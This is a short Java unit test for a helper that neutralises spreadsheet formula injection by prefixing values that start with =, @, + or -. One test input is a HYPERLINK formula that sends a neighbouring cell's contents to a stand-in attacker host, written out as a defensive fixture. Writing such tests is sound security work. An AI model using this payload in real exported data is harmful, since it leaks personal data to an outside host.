package nl.stemmen.api;

import static org.junit.jupiter.api.Assertions.assertEquals;

import org.junit.jupiter.api.Test;

/** A ref that a spreadsheet would run as a formula is written inert; the next cell is the person's link. */
class SpreadsheetCellsTest {

    @Test
    void formulasAreWrittenInert() {
        assertEquals("'=HYPERLINK(\"http://evil.example/?\"&B2)", SpreadsheetCells.inert("=HYPERLINK(\"http://evil.example/?\"&B2)"));
        assertEquals("'@SUM(1+1)", SpreadsheetCells.inert("@SUM(1+1)"));
        assertEquals("'+31", SpreadsheetCells.inert("+31"));
        assertEquals("'-2+3", SpreadsheetCells.inert("-2+3"));
        assertEquals("P001", SpreadsheetCells.inert("P001"));
        assertEquals("", SpreadsheetCells.inert(""));
    }
}
